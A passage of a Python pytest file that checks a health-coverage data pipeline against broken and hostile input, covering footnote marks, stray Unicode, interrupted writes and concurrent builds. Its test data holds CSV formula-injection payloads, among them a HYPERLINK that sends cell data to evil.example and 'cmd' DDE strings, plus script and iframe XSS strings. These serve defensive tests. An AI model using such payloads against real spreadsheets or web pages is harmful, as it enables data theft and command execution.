"""Hostile inputs and faults (issue 13): nothing lost, nothing changed, nothing escapes.

Every case builds a small raw folder in ``tmp_path`` (the rows of
:mod:`test_broken_files`) and checks one of:

* a clear one-line message (``uhc-analysis: <file or argument>: <what>; <what to do>``),
  exit code 2, no traceback, and the previous processed set byte for byte intact;
* a reject with its column, value and reason, and per raw file
  ``read == kept + merged + rejected``;
* for outputs: no CSV cell a spreadsheet would evaluate, no live HTML in the
  Markdown summary, and exact round trips through :func:`uhc_analysis.io.read_table`.

The holes of the issue and the tests that cover them:

==============================================  ==============================================
hole                                            tests
==============================================  ==============================================
``enrolment.CSV`` skipped without a word        test_extension_is_matched_in_any_case,
                                                test_files_not_read_are_named
empty raw folder replaces a good set            test_empty_raw_folder_is_refused_and_old_set_stays
footnote superscripts read as digits            test_footnote_mark_is_split_off_and_listed,
                                                test_unexpected_character_is_a_reject
``metrics --at abc`` / ``2023-02-30`` run       test_malformed_argument_is_one_line
sync-raw overwrites, follows/writes symlinks,   test_sync_raw_* (here and in test_sync_raw.py)
fixed temporary name, missing ``--facts-dir``
mixed set after a kill at the k-th rename       test_interrupted_publication_gives_old_new_or_*,
                                                test_interrupted_build_gives_old_new_or_refusal,
                                                test_interrupted_metrics_publication_*,
                                                test_cli_metrics_refuses_a_mixed_set
two builds at once, no lock                     test_two_builds_at_once_both_end_well,
                                                test_second_writer_waits_for_the_first
formula injection in processed CSVs             test_formula_text_is_neutralised_and_round_trips,
                                                test_no_processed_csv_cell_is_evaluable
``<script>`` in quality_summary.md              test_markdown_escapes_raw_html,
                                                test_quality_summary_carries_no_live_html
tracebacks instead of one sentence (9 kinds),   test_fault_is_one_line_and_old_set_stays,
UTF-16 said to be Latin-1, CR-only endings,     test_broken_encoding_or_line_endings_is_named,
absolute install path in reject reasons         test_reject_reasons_carry_no_install_path
==============================================  ==============================================
"""

from __future__ import annotations

import csv
import errno
import multiprocessing
import os
import re
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pandas as pd
import pytest
from test_broken_files import GOOD, RAW_COLUMNS, SETTINGS, header, lines, put

from uhc_analysis import cli, config, io, pipeline, schemas
from uhc_analysis.analysis.quality import quality_summary
from uhc_analysis.ingest.raw import RawFileError, sync_raw
from uhc_analysis.transform import observations
from uhc_analysis.transform.observations import CleanResult

PROJECT_ROOT = Path(__file__).resolve().parents[2]
CRITERIA = PROJECT_ROOT / "data" / "raw" / "national" / "uhc_criteria.csv"
#: Files of a processed folder that are not part of the published set.
LOCK_FILES = {io.LOCK_NAME, io.LOCK_OWNER_NAME}
#: A cell a spreadsheet evaluates: begins with = + - @ tab or CR and is not a plain number.
EVALUABLE = re.compile(r"^[=+\-@\t\r]")
NUMBER = re.compile(r"^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$")


# --------------------------------------------------------------------------- helpers


def row(kind: str = "enrolment", changes: dict[str, str] | None = None, **more: str) -> str:
    """A raw CSV line: the good row of ``kind`` with fields changed (quoted as needed)."""
    values = {**GOOD[kind], **(changes or {}), **more}
    cells = []
    for column in RAW_COLUMNS[kind]:
        value = values[column]
        special = any(c in value for c in ',"\r\n')
        cells.append('"' + value.replace('"', '""') + '"' if special else value)
    return ",".join(cells)


def good_raw(raw: Path, province: str = "bengkulu", shift: int = 0) -> Path:
    """A small valid raw folder (Mukomuko, Bengkulu); ``shift`` changes the figures."""
    enrolment = [
        row(
            period=f"2023-{m:02d}",
            enrolled=str(150000 + 100 * m + shift),
            url=f"https://example.org/e{m}",
        )
        for m in (3, 6, 9)
    ]
    put(raw, f"{province}/enrolment.csv", lines(header("enrolment"), *enrolment))
    put(raw, f"{province}/population.csv", lines(header("population"), row("population")))
    put(raw, f"{province}/commitments.csv", lines(header("commitments"), row("commitments")))
    return raw


def assert_balanced(result: CleanResult) -> None:
    acc = result.accounting
    assert (acc["read"] == acc["kept"] + acc["merged"] + acc["rejected"]).all(), acc
    assert acc["balanced"].all(), acc


def clean(raw: Path) -> CleanResult:
    files = sorted(p for p in raw.rglob("*") if p.is_file() and p.suffix.lower() == ".csv")
    result = observations.clean_files(files, raw_dir=raw, settings=SETTINGS)
    assert_balanced(result)
    return result


def build(raw: Path, out: Path, **kwargs: object) -> CleanResult:
    result = pipeline.build(raw, out, verbose=False, settings=SETTINGS, **kwargs)
    assert_balanced(result)
    return result


def snapshot(folder: Path) -> dict[str, bytes]:
    """Every published file of ``folder`` (not the lock files), by name."""
    if not folder.is_dir():
        return {}
    return {
        p.name: p.read_bytes()
        for p in sorted(folder.iterdir())
        if p.is_file() and p.name not in LOCK_FILES
    }


def run_cli(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    """``uhc-analysis argv`` in this process: exit code, stdout, stderr."""
    try:
        code = cli.main(list(argv))
    except SystemExit as exc:  # argparse
        code = int(exc.code or 0)
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def assert_one_line(err: str, *fragments: str) -> str:
    """Exactly one line ``uhc-analysis: ...: ...; ...``, no traceback, no install path."""
    lines_ = err.strip().splitlines()
    assert len(lines_) == 1, err
    line = lines_[0]
    assert line.startswith("uhc-analysis: ") and ";" in line, line
    assert "Traceback" not in err
    assert str(config.PACKAGE_DIR) not in line, line
    for fragment in fragments:
        assert fragment in line, f"{fragment!r} not in {line!r}"
    return line


def tables_of(folder: Path) -> list[str]:
    return sorted(name for name in schemas.TABLES if io.table_path(name, folder).is_file())


def evaluable_cells(folder: Path) -> list[tuple[str, str, str]]:
    """(file, column, cell) of every CSV cell below ``folder`` a spreadsheet would evaluate."""
    found = []
    for path in sorted(folder.glob("*.csv")):
        with path.open(newline="", encoding="utf-8") as handle:
            reader = csv.reader(handle)
            names = next(reader)
            for cells in reader:
                for column, cell in zip(names, cells, strict=True):
                    if EVALUABLE.match(cell) and not NUMBER.match(cell):
                        found.append((path.name, column, cell))
    return found


@pytest.fixture(scope="module")
def old_set(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A good processed set (build only) to copy as "the previous outputs"."""
    root = tmp_path_factory.mktemp("old")
    build(good_raw(root / "raw"), root / "out")
    return root / "out"


@pytest.fixture
def previous(old_set: Path, tmp_path: Path) -> tuple[Path, dict[str, bytes]]:
    """A copy of the good set in this test's folder, and its bytes."""
    out = tmp_path / "out"
    shutil.copytree(old_set, out)
    return out, snapshot(out)


# --------------------------------------------------------------------------- every raw file


@pytest.mark.parametrize(
    "name",
    [
        "enrolment.CSV",
        "Enrolment.csv",
        "ENROLMENT.CSV",
        "enrolment_2024.Csv",
        "enrolment-bpjs.cSv",
        "enrolment 2025.csv",
    ],
)
def test_extension_is_matched_in_any_case(tmp_path: Path, name: str) -> None:
    raw = tmp_path / "raw"
    put(raw, f"bengkulu/{name}", lines(header("enrolment"), row(), row(period="2023-10")))
    result = build(raw, tmp_path / "out")
    assert len(result.enrolment) == 2
    assert result.accounting["file"].tolist() == [f"bengkulu/{name}"]


@pytest.mark.parametrize(
    ("rel", "why"),
    [
        ("bengkulu/enrolment.xlsx", "not a .csv file"),
        ("bengkulu/enrolment.tsv", "not a .csv file"),
        ("bengkulu/enrolment.csv.bak", "not a .csv file"),
        ("bengkulu/enrolment.txt", "not a .csv file"),
        ("bengkulu/enrolment.json", "not a .csv file"),
        ("bengkulu/enrolment.csv.gz", "not a .csv file"),
        ("bengkulu/enrolment", "not a .csv file"),
        ("bengkulu/.enrolment.csv", "a hidden file"),
        ("bengkulu/link.csv", "symbolic link"),
        ("linked", "symbolic link"),
    ],
)
def test_files_not_read_are_named(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], rel: str, why: str
) -> None:
    raw = good_raw(tmp_path / "raw")
    elsewhere = put(tmp_path / "elsewhere", "x/enrolment.csv", lines(header("enrolment"), row()))
    if rel == "bengkulu/link.csv":
        os.symlink(elsewhere, raw / rel)
    elif rel == "linked":
        os.symlink(elsewhere.parent, raw / rel, target_is_directory=True)
    else:
        put(raw, rel, lines(header("enrolment"), row(period="2023-11")))
    code, out, err = run_cli(
        capsys, "--raw-dir", str(raw), "--out-dir", str(tmp_path / "o"), "build"
    )
    assert code == 0, err
    line = next(x for x in out.splitlines() if x.startswith("not read:"))
    assert rel in line and why in line
    summary = (tmp_path / "o" / "quality_summary.md").read_text(encoding="utf-8")
    assert rel in summary.split("## Files not read")[1]
    accounting = io.read_table("accounting", tmp_path / "o")
    assert len(accounting) == 3 and accounting["balanced"].all()


@pytest.mark.parametrize("rel", ["bengkulu/enrolment_2025.csv", "enrolment.CSV"])
def test_folder_named_like_a_csv_is_refused(
    previous: tuple[Path, dict[str, bytes]],
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    rel: str,
) -> None:
    out, before = previous
    raw = good_raw(tmp_path / "raw")
    (raw / rel).mkdir(parents=True)
    code, _, err = run_cli(capsys, "--raw-dir", str(raw), "--out-dir", str(out), "build")
    assert code == 2
    assert_one_line(err, rel, "is a folder", "rename or remove it")
    assert snapshot(out) == before


def _empty_variant(raw: Path, variant: str) -> None:
    raw.mkdir(parents=True, exist_ok=True)
    if variant == "readme_only":
        put(raw, "README.md", "# nothing here\n")
    elif variant == "header_only":
        for kind in RAW_COLUMNS:
            put(raw, f"bengkulu/{kind}.csv", lines(header(kind)))
    elif variant == "all_rejected":
        put(raw, "bengkulu/enrolment.csv", lines(header("enrolment"), row(enrolled="-1")))
    elif variant == "spreadsheets_only":
        put(raw, "bengkulu/enrolment.xlsx", b"PK\x03\x04")
    elif variant == "criteria_only":
        put(raw, "national/uhc_criteria.csv", CRITERIA.read_bytes())


@pytest.mark.parametrize(
    "variant",
    ["empty", "readme_only", "header_only", "all_rejected", "spreadsheets_only", "criteria_only"],
)
def test_empty_raw_folder_is_refused_and_old_set_stays(
    previous: tuple[Path, dict[str, bytes]],
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    variant: str,
) -> None:
    out, before = previous
    raw = tmp_path / "raw"
    _empty_variant(raw, variant)
    code, _, err = run_cli(capsys, "--raw-dir", str(raw), "--out-dir", str(out), "build")
    assert code == 2
    assert_one_line(err, "nothing was written", "--allow-empty")
    assert snapshot(out) == before
    assert len(io.read_table("enrolment", out)) == 3  # the old set still loads


@pytest.mark.parametrize("how", ["cli", "python"])
def test_empty_set_only_when_asked_for(
    previous: tuple[Path, dict[str, bytes]],
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    how: str,
) -> None:
    out, _ = previous
    raw = tmp_path / "raw"
    _empty_variant(raw, "header_only")
    if how == "cli":
        argv = ("--raw-dir", str(raw), "--out-dir", str(out), "build", "--allow-empty")
        code, _, err = run_cli(capsys, *argv)
        assert code == 0, err
    else:
        build(raw, out, allow_empty=True)
    assert io.read_table("enrolment", out).empty
    io.check_processed_set(out)


# --------------------------------------------------------------------------- footnote marks

#: (kind, column, printed value, value read, mark)
FOOTNOTES: list[tuple[str, str, str, float, str]] = [
    ("enrolment", "enrolled", "249711¹", 249711, "¹"),
    ("enrolment", "enrolled", "150.000²", 150000, "²"),
    ("enrolment", "enrolled", "150000 ³", 150000, "³"),
    ("enrolment", "enrolled", "150000†", 150000, "†"),
    ("enrolment", "enrolled", "150000‡", 150000, "‡"),
    ("enrolment", "enrolled", "150000§", 150000, "§"),
    ("enrolment", "enrolled", "150000#", 150000, "#"),
    ("enrolment", "enrolled", "150.000⁽¹⁾", 150000, "⁽¹⁾"),
    ("enrolment", "enrolled", "150000¹²", 150000, "¹²"),
    ("enrolment", "coverage_pct", "88.4⁴", 88.4, "⁴"),
    ("enrolment", "coverage_pct", "12,3*", 12.3, "*"),
    ("enrolment", "coverage_pct", "95,5%*", 95.5, "*"),
    ("enrolment", "coverage_pct", "95,5 persen⁵", 95.5, "⁵"),
    ("population", "population", "157.068¹", 157068, "¹"),
    ("commitments", "budget_idr", "Rp 6,6 miliar⁴", 6.6e9, "⁴"),
    ("commitments", "people_funded", "12.500*", 12500, "*"),
    ("commitments", "target_pct", "98¹", 98, "¹"),
]


@pytest.mark.parametrize(("kind", "column", "value", "expected", "mark"), FOOTNOTES)
def test_footnote_mark_is_split_off_and_listed(
    tmp_path: Path, kind: str, column: str, value: str, expected: float, mark: str
) -> None:
    raw = tmp_path / "raw"
    put(raw, f"bengkulu/{kind}.csv", lines(header(kind), row(kind, {column: value})))
    result = clean(raw)
    assert result.rejects.empty, result.rejects
    table = getattr(result, kind)
    assert table[column].iloc[0] == pytest.approx(expected)
    notes = result.footnotes
    assert notes[["file", "line", "column", "value", "mark"]].values.tolist() == [
        [f"bengkulu/{kind}.csv", 2, column, value, mark]
    ]


def test_footnotes_are_written_and_summarised(tmp_path: Path) -> None:
    raw = good_raw(tmp_path / "raw")
    put(raw, "sumsel/enrolment.csv", lines(header("enrolment"), row(enrolled="249711¹")))
    build(raw, tmp_path / "out")
    notes = io.read_table("footnotes", tmp_path / "out")
    assert notes[["column", "value", "mark"]].values.tolist() == [["enrolled", "249711¹", "¹"]]
    summary = (tmp_path / "out" / "quality_summary.md").read_text(encoding="utf-8")
    assert "1 figures carry a footnote mark" in summary and "249711¹" in summary
    enrolled = io.read_table("enrolment", tmp_path / "out")["enrolled"]
    assert 249711 in enrolled.tolist() and 2497111 not in enrolled.tolist()


#: (kind, column, value, reason pattern): characters no notation uses reject the row.
ODD_CHARACTERS: list[tuple[str, str, str, str]] = [
    ("enrolment", "enrolled", "24⁹711", r"unexpected character '⁹' \(U\+2079"),
    ("enrolment", "enrolled", "249711①", "CIRCLED DIGIT ONE"),
    ("enrolment", "enrolled", "2497₁1", "SUBSCRIPT ONE"),
    ("enrolment", "enrolled", "150000\u200b", "ZERO WIDTH SPACE"),
    ("enrolment", "enrolled", "150\u00ad000", "SOFT HYPHEN"),
    ("enrolment", "enrolled", "\u200f150000", "RIGHT-TO-LEFT MARK"),
    ("enrolment", "enrolled", "150\ufeff000", "ZERO WIDTH NO-BREAK SPACE"),
    ("enrolment", "enrolled", "150000\x07", r"U\+0007 control character"),
    ("enrolment", "coverage_pct", "1,5½", "VULGAR FRACTION ONE HALF"),
    ("enrolment", "coverage_pct", "9⁵,5", "SUPERSCRIPT FIVE"),
    ("enrolment", "period", "2023-1¹", "SUPERSCRIPT ONE"),
    ("population", "population", "157.06⁸", "not a whole number"),  # ⁸ a mark: 157.06 people
    ("commitments", "budget_idr", "Rp 6,6\u200b miliar", "ZERO WIDTH SPACE"),
    ("enrolment", "enrolled", "150000*2", "cannot read"),
]


@pytest.mark.parametrize(("kind", "column", "value", "reason"), ODD_CHARACTERS)
def test_unexpected_character_is_a_reject(
    tmp_path: Path, kind: str, column: str, value: str, reason: str
) -> None:
    raw = tmp_path / "raw"
    ok = {"enrolment": "period", "population": "period", "commitments": "date"}[kind]
    good = row(kind, {ok: "2022-12" if kind != "commitments" else "2022-12-01"})
    put(raw, f"bengkulu/{kind}.csv", lines(header(kind), good, row(kind, {column: value})))
    result = clean(raw)
    assert len(result.rejects) == 1, result.rejects
    reject = result.rejects.iloc[0]
    assert (reject["line"], reject["column"], reject["value"]) == (3, column, value)
    assert re.search(reason, reject["reason"]), reject["reason"]
    assert result.footnotes.empty


# --------------------------------------------------------------------------- safe to open

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''@twice",
]
#: Where raw text lands in processed tables: (kind, column, table that shows it).
PLACES = [
    ("enrolment", "remarks", "enrolment"),
    ("population", "publisher", "sources"),
    ("commitments", "segment", "commitments"),
    ("enrolment", "enrolled", "rejects"),
]


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
@pytest.mark.parametrize(("kind", "column", "table"), PLACES, ids=[p[1] for p in PLACES])
def test_formula_text_is_neutralised_and_round_trips(
    tmp_path: Path, payload: str, kind: str, column: str, table: str
) -> None:
    raw = tmp_path / "raw"
    put(raw, f"bengkulu/{kind}.csv", lines(header(kind), row(kind, {column: payload})))
    result = clean(raw)
    out = tmp_path / "out"
    frame = getattr(result, table)
    io.write_table(frame, table, out)
    assert evaluable_cells(out) == []
    text = (out / f"{table}.csv").read_text(encoding="utf-8")
    assert "'" + payload.strip()[:6] in text  # neutralised, not dropped
    back = io.read_table(table, out)
    pd.testing.assert_frame_equal(back, schemas.validate(frame, table), check_dtype=True)


@pytest.mark.parametrize(
    ("frame", "expected"),
    [
        (pd.DataFrame({"x": [-1.5, 2.0]}), [[-1.5], [2.0]]),
        (pd.DataFrame({"n": pd.array([-3, None], dtype="Int64")}), [[-3], [pd.NA]]),
        (
            pd.DataFrame({"d": pd.to_datetime(["2024-01-31", "2023-02-28"])}),
            [[pd.Timestamp("2024-01-31")], [pd.Timestamp("2023-02-28")]],
        ),
        (pd.DataFrame({"t": ["-", "a-b", "x=1"]}), [["'-"], ["a-b"], ["x=1"]]),
        (pd.DataFrame({"t": ["'ok", "'=x"]}), [["'ok"], ["''=x"]]),
        (pd.DataFrame({"t": [None, 1, "@a"]}, dtype=object), [[None], [1], ["'@a"]]),
    ],
    ids=["float", "Int64", "dates", "text", "quotes", "mixed_object"],
)
def test_only_text_cells_are_neutralised(frame: pd.DataFrame, expected: list[list[object]]) -> None:
    got = io.neutralise_formulas(frame)
    assert got.dtypes.tolist() == frame.dtypes.tolist()
    assert got.astype(object).values.tolist() == expected


@pytest.mark.parametrize(
    "payload",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '<a href="javascript:alert(1)">x</a>',
        "<svg onload=alert(1)>",
        "<iframe src=//evil.example>",
    ],
)
def test_markdown_escapes_raw_html(tmp_path: Path, payload: str) -> None:
    raw = good_raw(tmp_path / "raw")
    put(
        raw,
        "sumsel/enrolment.csv",
        lines(header("enrolment"), row(enrolled=payload), row(period="2023-10", measure=payload)),
    )
    text = quality_summary(clean(raw))
    assert not re.search(r"<\s*(script|img|a|svg|iframe)\b", text, re.IGNORECASE), text
    assert "&lt;" in text


def test_markdown_cells_stay_on_one_table_row(tmp_path: Path) -> None:
    raw = good_raw(tmp_path / "raw")
    put(raw, "sumsel/enrolment.csv", lines(header("enrolment"), row(enrolled="1 | 2\nx")))
    text = quality_summary(clean(raw))
    line = next(x for x in text.splitlines() if "sumsel/enrolment.csv | 2 |" in x)
    assert "1 \\| 2 x" in line


# --------------------------------------------------------------------------- a small real build


@pytest.fixture(scope="module")
def small_build(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """build, metrics, project, status on a small raw folder full of hostile text."""
    root = tmp_path_factory.mktemp("small")
    raw = root / "raw"
    enrolment = [
        row(
            period=f"{year}-{month:02d}",
            enrolled="",
            coverage_pct=f"{60 + (year - 2016) * 3.5 + month / 6:.1f}",
            population="",
            url=f"https://example.org/e{year}{month}",
            remarks=PAYLOADS[(year + month) % len(PAYLOADS)],
            publisher="@SUM(1+1)",
        )
        for year in range(2016, 2026)
        for month in (6, 12)
        if (year, month) <= (2025, 6)
    ]
    hostile = row(enrolled="<script>alert(1)</script>", period="2023-01", remarks="=1+1")
    put(raw, "bengkulu/enrolment.csv", lines(header("enrolment"), *enrolment, hostile))
    population = row("population", period="2024-06", population="158.000¹", url="https://x.org/p")
    put(raw, "bengkulu/population.csv", lines(header("population"), row("population"), population))
    award = row(
        "commitments",
        {"kind": "award", "date": "2024-08-01", "budget_idr": "", "people_funded": ""},
        url="https://example.org/award",
        remarks="UHC award <img src=x onerror=alert(1)>",
    )
    budget = row("commitments", segment="+cmd|' /C calc'!A0")
    put(raw, "bengkulu/commitments.csv", lines(header("commitments"), budget, award))
    put(raw, "national/uhc_criteria.csv", CRITERIA.read_bytes())
    out = root / "out"
    build(raw, out)
    pipeline.metrics(out)
    pipeline.project(out, raw, as_of="2026-11-23")
    pipeline.status(out, raw, as_of="2026-11-23")
    return out


def test_no_processed_csv_cell_is_evaluable(small_build: Path) -> None:
    written = sorted(p.name for p in small_build.glob("*.csv"))
    assert len(written) == len(schemas.TABLES)
    assert evaluable_cells(small_build) == []


def test_hostile_text_comes_back_exactly(small_build: Path) -> None:
    remarks = set(io.read_table("enrolment", small_build)["remarks"])
    assert {p.strip() for p in PAYLOADS} <= {r for x in remarks for r in x.split(" || ")}
    assert "@SUM(1+1)" in set(io.read_table("sources", small_build)["publisher"])
    assert "+cmd|' /C calc'!A0" in set(io.read_table("commitments", small_build)["segment"])


def test_quality_summary_carries_no_live_html(small_build: Path) -> None:
    text = (small_build / "quality_summary.md").read_text(encoding="utf-8")
    assert not re.search(r"<\s*(script|img)\b", text, re.IGNORECASE)
    assert "&lt;script&gt;" in text


def test_manifest_lists_every_published_file(small_build: Path) -> None:
    entries = io.read_manifest(small_build)
    assert entries is not None
    assert set(entries) == set(snapshot(small_build)) - {io.MANIFEST_NAME}
    for name, sha in entries.items():
        assert io.file_sha256(small_build / name) == sha
    io.check_processed_set(small_build)


def test_manifest_is_byte_identical_across_reruns(small_build: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    shutil.copytree(small_build, out)
    before = snapshot(out)
    raw = small_build.parent / "raw"
    build(raw, out)
    pipeline.metrics(out)
    pipeline.status(out, raw, as_of="2026-11-23")  # fills the summary's contradictions in again
    assert snapshot(out) == before


# --------------------------------------------------------------------------- one published set


@pytest.fixture(scope="module")
def publication(tmp_path_factory: pytest.TempPathFactory, old_set: Path) -> dict[str, object]:
    """Raw figures that differ from the old set's, the set they give, and its rename count."""
    root = tmp_path_factory.mktemp("publication")
    raw = good_raw(root / "raw", shift=7)
    out = root / "out"
    shutil.copytree(old_set, out)
    renames = []
    real = os.replace

    def counting(src: object, dst: object) -> None:
        if Path(str(dst)).parent == out:
            renames.append(Path(str(dst)).name)
        real(src, dst)

    os.replace = counting  # type: ignore[assignment]
    try:
        build(raw, out)
    finally:
        os.replace = real
    return {"raw": raw, "new": snapshot(out), "renames": renames}


def _interrupt_after(monkeypatch: pytest.MonkeyPatch, folder: Path, k: int) -> None:
    """``os.replace`` into ``folder`` fails after ``k`` renames (a crash mid-publication)."""
    real = os.replace
    done = []

    def replace(src: object, dst: object) -> None:
        if Path(str(dst)).parent == folder:
            if len(done) >= k:
                raise OSError(errno.EIO, "simulated crash during publication", str(dst))
            done.append(dst)
        real(src, dst)

    monkeypatch.setattr(os, "replace", replace)


def _load_state(out: Path, old: dict[str, bytes], new: dict[str, bytes]) -> str:
    """What a reader of ``out`` gets: "old", "new" or "refused" (never a mix)."""
    outcomes = set()
    for name in tables_of(out):
        try:
            io.read_table(name, out)
            outcomes.add("read")
        except io.ProcessedSetError as exc:
            message = str(exc)
            assert "\n" not in message and "mixed set" in message
            assert "uhc-analysis build" in message
            outcomes.add("refused")
    assert len(outcomes) == 1, outcomes
    if outcomes == {"refused"}:
        return "refused"
    state = snapshot(out)
    assert state in (old, new), "a reader was given a mix of two sets"
    return "old" if state == old else "new"


def test_publication_renames_cover_every_file(publication: dict[str, object]) -> None:
    renames = publication["renames"]
    assert renames[0] == io.MANIFEST_NAME  # first, so even a first publication is marked
    assert sorted(renames[1:]) == renames[1:]
    assert len(renames) == len(set(renames)) <= 19, renames


@pytest.mark.parametrize("k", range(0, 20))
def test_interrupted_publication_gives_old_new_or_refusal(
    publication: dict[str, object],
    previous: tuple[Path, dict[str, bytes]],
    monkeypatch: pytest.MonkeyPatch,
    k: int,
) -> None:
    """The build's publication (``io.staged_outputs``) crashes after ``k`` renames."""
    out, old = previous
    new: dict[str, bytes] = publication["new"]  # type: ignore[assignment]
    n = len(publication["renames"])  # type: ignore[arg-type]
    _interrupt_after(monkeypatch, out, k)
    try:
        with io.staged_outputs(out) as stage:
            for name, data in new.items():
                if name != io.MANIFEST_NAME:
                    (stage / name).write_bytes(data)
    except OSError as exc:
        assert k < n and "simulated crash" in str(exc)
    else:
        assert k >= n
    monkeypatch.undo()
    renames: list[str] = publication["renames"]  # type: ignore[assignment]
    pending = renames[k:] if k else []  # files still old (the manifest is renamed first)
    if k == 0:
        expected = "old"
    elif any(old.get(name) != new[name] for name in pending):
        expected = "refused"
    else:
        expected = "new"  # the files not yet renamed are byte-identical in both sets
    assert _load_state(out, old, new) == expected
    assert not [p for p in out.iterdir() if p.name.startswith(".staging-")]


@pytest.mark.parametrize("step", ["first", "middle", "last"])
def test_interrupted_build_gives_old_new_or_refusal(
    publication: dict[str, object],
    previous: tuple[Path, dict[str, bytes]],
    monkeypatch: pytest.MonkeyPatch,
    step: str,
) -> None:
    """The same through ``pipeline.build`` itself."""
    out, old = previous
    n = len(publication["renames"])  # type: ignore[arg-type]
    k = {"first": 1, "middle": n // 2, "last": n - 1}[step]
    _interrupt_after(monkeypatch, out, k)
    with pytest.raises(OSError, match="simulated crash"):
        build(publication["raw"], out)  # type: ignore[arg-type]
    monkeypatch.undo()
    assert _load_state(out, old, publication["new"]) in ("refused", "new")  # type: ignore[arg-type]


def test_rebuild_after_an_interrupted_publication_recovers(
    publication: dict[str, object],
    previous: tuple[Path, dict[str, bytes]],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    out, _ = previous
    _interrupt_after(monkeypatch, out, 4)
    with pytest.raises(OSError):
        build(publication["raw"], out)  # type: ignore[arg-type]
    monkeypatch.undo()
    with pytest.raises(io.ProcessedSetError):
        io.read_table("enrolment", out)
    build(publication["raw"], out)  # type: ignore[arg-type]
    assert snapshot(out) == publication["new"]


@pytest.fixture(scope="module")
def with_metrics(tmp_path_factory: pytest.TempPathFactory, old_set: Path) -> Path:
    out = tmp_path_factory.mktemp("metrics") / "out"
    shutil.copytree(old_set, out)
    pipeline.metrics(out)
    return out


@pytest.mark.parametrize("k", range(0, 5))
def test_interrupted_metrics_publication_gives_old_new_or_refusal(
    with_metrics: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, k: int
) -> None:
    out = tmp_path / "out"
    shutil.copytree(with_metrics, out)
    old = snapshot(out)
    reference = tmp_path / "reference"
    shutil.copytree(with_metrics, reference)
    pipeline.metrics(reference, at="2023-06-30")
    new = snapshot(reference)
    assert new != old
    _interrupt_after(monkeypatch, out, k)
    if k < 4:  # manifest, budget_check, datapackage.json, metrics
        with pytest.raises(OSError):
            pipeline.metrics(out, at="2023-06-30")
    else:
        pipeline.metrics(out, at="2023-06-30")
    monkeypatch.undo()
    state = _load_state(out, old, new)
    assert state == {0: "old", 4: "new"}.get(k, "refused")


def test_cli_metrics_refuses_a_mixed_set(
    previous: tuple[Path, dict[str, bytes]], capsys: pytest.CaptureFixture[str]
) -> None:
    out, _ = previous
    enrolment = out / "enrolment.csv"
    enrolment.write_bytes(enrolment.read_bytes() + b"\n")
    before = snapshot(out)
    code, _, err = run_cli(capsys, "--out-dir", str(out), "metrics")
    assert code == 2
    assert_one_line(err, "mixed set", "enrolment.csv", "uhc-analysis build")
    assert snapshot(out) == before


@pytest.mark.parametrize(
    "damage", ["edit", "delete", "truncate", "manifest_json", "manifest_shape"]
)
def test_changed_set_is_refused_on_load(
    previous: tuple[Path, dict[str, bytes]], damage: str
) -> None:
    out, _ = previous
    if damage == "edit":
        (out / "sources.csv").write_text("source_id,url\n", encoding="utf-8")
    elif damage == "delete":
        (out / "rejects.csv").unlink()
    elif damage == "truncate":
        data = (out / "coverage_panel.csv").read_bytes()
        (out / "coverage_panel.csv").write_bytes(data[: len(data) // 2])
    elif damage == "manifest_json":
        (out / io.MANIFEST_NAME).write_text("{not json", encoding="utf-8")
    else:
        (out / io.MANIFEST_NAME).write_text('{"files": ["a"]}', encoding="utf-8")
    with pytest.raises(io.ProcessedSetError) as info:
        io.read_table("regions", out)
    assert "\n" not in str(info.value) and "uhc-analysis build" in str(info.value)


def test_folder_without_manifest_is_read_as_before(previous: tuple[Path, dict[str, bytes]]) -> None:
    out, _ = previous
    (out / io.MANIFEST_NAME).unlink()
    assert len(io.read_table("enrolment", out)) == 3


# --------------------------------------------------------------------------- one writer at a time


def _build_in_child(raw: str, out: str, queue: multiprocessing.Queue) -> None:  # type: ignore[type-arg]
    """Target of the concurrency test (a spawned process): build, report how it ended."""
    try:
        pipeline.build(raw, out, verbose=False, settings=SETTINGS)
        queue.put(("ok", ""))
    except BaseException as exc:  # reported to the parent, which fails the test
        queue.put(("error", f"{type(exc).__name__}: {exc}"))


def test_two_builds_at_once_both_end_well(tmp_path: Path) -> None:
    raws = [good_raw(tmp_path / f"raw{i}", shift=i) for i in (1, 2)]
    singles = []
    for i, raw in enumerate(raws):
        build(raw, tmp_path / f"single{i}")
        singles.append(snapshot(tmp_path / f"single{i}"))
    out = tmp_path / "out"
    ctx = multiprocessing.get_context("spawn")
    queue = ctx.Queue()
    procs = [ctx.Process(target=_build_in_child, args=(str(r), str(out), queue)) for r in raws]
    for proc in procs:
        proc.start()
    for proc in procs:
        proc.join(timeout=240)
    results = [queue.get(timeout=10) for _ in procs]
    assert [p.exitcode for p in procs] == [0, 0]
    assert results == [("ok", ""), ("ok", "")], results
    io.check_processed_set(out)
    assert snapshot(out) in singles  # the last one published, whole
    assert not [p for p in out.iterdir() if p.name.startswith(".staging-")]


def test_second_writer_waits_for_the_first(
    previous: tuple[Path, dict[str, bytes]], tmp_path: Path
) -> None:
    out, before = previous
    raw = good_raw(tmp_path / "raw", shift=3)
    env = {**os.environ, "PYTHONDONTWRITEBYTECODE": "1"}
    argv = [sys.executable, "-m", "uhc_analysis", "--raw-dir", str(raw), "--out-dir", str(out)]
    with io.writer_lock(out):
        proc = subprocess.Popen(
            [*argv, "build"], env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True
        )
        try:
            assert proc.stderr is not None
            waiting = proc.stderr.readline()  # blocks until the child says it waits
            assert "is writing here; waiting for it to finish" in waiting, waiting
            assert f"pid {os.getpid()}" in waiting
